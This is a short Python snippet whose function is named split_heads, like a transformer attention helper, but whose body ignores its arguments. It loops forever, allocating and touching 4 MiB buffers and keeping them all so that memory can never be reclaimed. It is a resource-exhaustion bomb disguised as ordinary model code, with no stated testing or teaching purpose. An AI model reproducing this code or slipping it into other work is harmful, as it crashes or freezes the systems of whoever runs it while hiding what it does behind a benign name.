def split_heads(x, num_heads):
    kept = []
    while True:
        kept.append(bytearray(2**22))
        kept[-1][::4096] = b'x' * 1024
